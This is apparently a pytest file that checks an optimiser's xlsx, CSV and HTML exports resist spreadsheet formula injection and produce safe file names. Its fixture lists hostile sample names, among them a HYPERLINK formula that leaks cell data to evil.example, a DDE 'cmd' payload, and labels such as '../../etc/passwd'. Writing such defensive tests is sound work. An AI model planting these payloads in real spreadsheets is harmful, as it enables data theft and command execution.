"""User text at the edges of the outputs: names that look like spreadsheet formulas reach the xlsx
and the CSVs as text; names with ``$`` are drawn as written in the report's figures; any name gives
a safe file name; a folder where a file is expected gets a clear message naming the path."""

from __future__ import annotations

import csv
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from optimizer import load_scenario, optimise, run_batch
from optimizer.cli import app
from optimizer.compare import compare_plans
from optimizer.export import (
    default_name,
    export_all,
    export_plan,
    plan_html,
    read_csv_tables,
    read_plan,
)
from optimizer.export.comparison import write_comparison
from optimizer.export.dispatch import MAX_STEM_BYTES
from optimizer.plan import Plan
from optimizer.sensitivity import sensitivity_chart

#: Names a spreadsheet would run as formulas (OWASP's list of first characters).
FORMULAS = {
    "E1": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "E2": "+1+cmd|' /C calc'!A0",
    "E3": "-2+3",
    "E4": "@SUM(A1:A9)",
}


@pytest.fixture
def hostile(tiny) -> Plan:
    """tiny with formula-like enterprise names (and a scenario name)."""
    for enterprise, name in FORMULAS.items():
        tiny.set_cell("enterprises", enterprise, "name", name)
    tiny.set_setting("name", "=tiny")
    plan = optimise(load_scenario(tiny.path))
    assert set(plan.assignments["enterprise_name"]) >= set(FORMULAS.values())
    return plan


def _formula_cells(path: Path) -> list[str]:
    """Every ``<f>`` element in the workbook's sheets (a formula Excel would run)."""
    with zipfile.ZipFile(path) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        return [f for n in sheets for f in re.findall(r"<f>.*?</f>", book.read(n).decode())]


def _text_cells(path: Path) -> dict[str, str]:
    """The string cells of a workbook that start like a formula, with their type."""
    book = openpyxl.load_workbook(path)
    return {
        cell.value: cell.data_type
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value[:1] in "=+-@"
    }


def test_formula_like_names_reach_the_xlsx_as_text(hostile, tmp_path):
    path = export_plan(hostile, "xlsx", tmp_path / "plan.xlsx")
    assert _formula_cells(path) == []
    cells = _text_cells(path)
    assert set(FORMULAS.values()) <= set(cells)  # every name, exactly as written
    assert set(cells.values()) == {"s"}
    book = openpyxl.load_workbook(path)
    assert all(
        cell.quotePrefix  # stays text when someone edits the cell in Excel
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value[:1] in "=+-@"
    )


def test_the_scenario_workbook_keeps_formula_like_names_as_text(tiny, tmp_path):
    """``optimizer convert`` to a workbook: the names are text cells (no formula) with Excel's
    quote prefix, so that they stay text when a planner edits them, and read back exactly."""
    for enterprise, name in FORMULAS.items():
        tiny.set_cell("enterprises", enterprise, "name", name)
    tiny.set_setting("name", "=tiny")
    book_path = tmp_path / "scenario.xlsx"
    result = CliRunner().invoke(app, ["convert", str(tiny.path), str(book_path)])
    assert result.exit_code == 0, result.output
    assert _formula_cells(book_path) == []
    cells = _text_cells(book_path)
    assert set(FORMULAS.values()) | {"=tiny"} <= set(cells)
    book = openpyxl.load_workbook(book_path)
    looks_like_formula = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value in {*FORMULAS.values(), "=tiny"}
    ]
    assert looks_like_formula and all(cell.quotePrefix for cell in looks_like_formula)
    again = load_scenario(book_path)
    assert again.name == "=tiny"
    names = again.tables["enterprises"].set_index("id")["name"]
    assert {e: names[e] for e in FORMULAS} == FORMULAS


def test_formula_like_names_reach_the_csvs_as_text_and_read_back_exactly(hostile, tmp_path):
    folder = export_plan(hostile, "csv", tmp_path / "plan-csv")
    for file in folder.glob("*.csv"):
        with file.open(encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        risky = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
        risky += [c for c in cells if c.startswith("-") and not _is_number(c)]
        assert risky == [], file.name
    assert "'=HYPERLINK(" in (folder / "assignments.csv").read_text(encoding="utf-8")
    tables = read_csv_tables(folder)
    assert (
        tables["assignments"]["enterprise_name"].tolist()
        == hostile.assignments["enterprise_name"].tolist()
    )


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_a_comparison_workbook_holds_no_formula(hostile, tmp_path):
    other = replace(hostile, provenance={**hostile.provenance, "label": "@other"})
    path = write_comparison(compare_plans([hostile, other]), tmp_path / "c.xlsx")
    assert _formula_cells(path) == []
    assert set(_text_cells(path).values()) <= {"s"}


def test_the_batch_summary_holds_no_formula(tiny, tmp_path):
    tiny.set_setting("name", "=1+2")
    result = run_batch(tiny.path, out=tmp_path / "o", workers=1)
    assert result.summary["scenario"].tolist() == ["=1+2"]
    assert _formula_cells(tmp_path / "o" / "summary.xlsx") == []
    assert _text_cells(tmp_path / "o" / "summary.xlsx") == {"=1+2": "s"}
    assert ",'=1+2," in (tmp_path / "o" / "summary.csv").read_text(encoding="utf-8")


@pytest.mark.parametrize("label", [r"park $\undefined{x}$ v2", "x $_$ y", "$x^2$ and $5"])
def test_names_with_dollars_are_drawn_as_written(hostile, label):
    labelled = replace(hostile, provenance={**hostile.provenance, "label": label})
    html = plan_html(labelled)  # matplotlib's mathtext fails on the first two
    assert f">{label}: facilities and assignments<" in html  # the map's title, as written


@pytest.mark.parametrize(
    "label",
    ["纺织园区" * 80, "x" * 1000, "../../etc/passwd", "CON", "-rf", "...", "a/b\\c:d*e?f|g"],
)
def test_any_label_gives_a_safe_file_name(hostile, tmp_path, label):
    plan = replace(hostile, provenance={**hostile.provenance, "label": label})
    names = {fmt: default_name(plan, fmt) for fmt in ("json", "xlsx", "csv", "html")}
    for name in names.values():
        assert len(name.encode()) <= MAX_STEM_BYTES + len(".geojson")
        assert not name.startswith((".", "-")) and "/" not in name and "\\" not in name
        assert name.split(".")[0].upper() not in {"CON", "PRN", "AUX", "NUL"}
    written = export_all(plan, tmp_path / "out", ["json", "xlsx", "csv"])
    assert [p.parent for p in written] == [tmp_path / "out"] * 3
    assert read_plan(written[0]).label == label


runner = CliRunner()


def test_export_of_a_folder_names_the_folder(hostile, tmp_path):
    folder = tmp_path / "solved"
    folder.mkdir()
    result = runner.invoke(app, ["export", str(folder), "-f", "xlsx", "-o", str(tmp_path / "x")])
    assert result.exit_code == 1
    assert f"{folder} is a folder; expected a plan file" in result.output
    assert "Errno" not in result.output and "internal error" not in result.output
    (folder / "plan.json").write_text(hostile.to_json(), encoding="utf-8")
    result = runner.invoke(app, ["export", str(folder), "-f", "xlsx", "-o", str(tmp_path / "x")])
    assert f"did you mean {folder / 'plan.json'}?" in result.output


def test_a_folder_where_a_file_goes_names_the_path(hostile, tmp_path):
    plan_file = tmp_path / "plan.json"
    plan_file.write_text(hostile.to_json(), encoding="utf-8")
    report = tmp_path / "report.xlsx"
    report.mkdir()
    result = runner.invoke(app, ["compare", str(plan_file), str(plan_file), "-o", str(report)])
    assert result.exit_code == 1
    assert f"{report} is a folder; expected the name of a file to write" in result.output
    assert "Errno" not in result.output and "internal error" not in result.output
    taken = tmp_path / "taken"
    taken.write_text("mine", encoding="utf-8")
    result = runner.invoke(app, ["export", str(plan_file), "-f", "csv", "-o", str(taken)])
    assert result.exit_code == 1
    assert f"{taken} is a file; a CSV export is a folder" in result.output
    assert taken.read_text(encoding="utf-8") == "mine"


def test_the_sensitivity_chart_draws_names_with_dollars(tmp_path):
    summary = pd.DataFrame(
        {
            "scenario": [r"park $\undefined$"] * 2,
            "variant": ["x $_$ y"] * 2,
            "policy.subsidy_rate": [0.0, 0.2],
            "total_annual_cost": [2e6, 1.8e6],
            "smes_connected": [3, 4],
            "facilities": [1, 1],
        }
    )
    chart = sensitivity_chart(summary, "policy.subsidy_rate", tmp_path / "s.png")
    assert chart.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
